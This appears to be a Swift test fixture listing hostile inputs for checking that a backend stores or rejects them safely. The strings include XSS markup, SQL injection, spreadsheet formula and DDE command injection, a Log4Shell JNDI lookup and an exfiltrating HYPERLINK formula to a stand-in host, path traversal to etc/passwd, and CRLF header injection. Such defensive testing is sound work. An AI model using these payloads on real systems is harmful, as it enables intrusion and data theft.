import Foundation

@testable import Backend

/// What is sent by who means ill (恶意内容).
enum HostileTexts {
  static let markup = #"<img src=x onerror="alert(1)">'</script><script>alert(1)</script>"#
  static let formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点此\")"
  /// One line each, none of which a text of the books may not hold.
  static let lines = [
    "'; drop table ledger.card; --", #"\' or '1'='1' /* %_ $1 */"#, markup, formula, "+cmd|'/c calc'!A1", "@SUM(1)",
    "${jndi:ldap://example.invalid/a}{{7*7}}%s%n%@", "\u{202e}gnp.exe 𠮷 é e\u{301}", "..%2f..%2fetc%2fpasswd",
  ]
  /// What no parameter holds, and no line.
  static let never = ["a\u{0}b", "a\r\nSet-Cookie: a=b", "\u{1b}[2J"]

  static func encoded(_ text: String) -> String {
    text.addingPercentEncoding(withAllowedCharacters: CharacterSet(charactersIn: "abcdefghijklmnopqrstuvwxyz")) ?? ""
  }

  /// The paths to all texts of a document.
  static func texts(of value: Any, under path: [String] = []) -> [[String]] {
    switch value {
    case is String: [path]
    case let list as [Any]: list.enumerated().flatMap { texts(of: $1, under: path + ["\($0)"]) }
    case let object as [String: Any]:
      object.sorted { $0.key < $1.key }.flatMap { texts(of: $1, under: path + [$0]) }
    default: []
    }
  }

  /// The text at a path; nil where there is none.
  static func text(of value: Any, at path: [String]) -> String? {
    guard let first = path.first else { return value as? String }
    let inner =
      (value as? [String: Any])?[first]
      ?? Int(first).flatMap { place in
        (value as? [Any]).flatMap { $0.indices.contains(place) ? $0[place] : nil }
      }
    return inner.flatMap { text(of: $0, at: Array(path.dropFirst())) }
  }

  /// The document with another text at a path.
  static func replacing(_ value: Any, at path: [String], with text: String) -> Any {
    guard let first = path.first else { return text }
    let rest = Array(path.dropFirst())
    if var object = value as? [String: Any], let inner = object[first] {
      object[first] = replacing(inner, at: rest, with: text)
      return object
    }
    if var list = value as? [Any], let place = Int(first) {
      list[place] = replacing(list[place], at: rest, with: text)
      return list
    }
    return value
  }
}
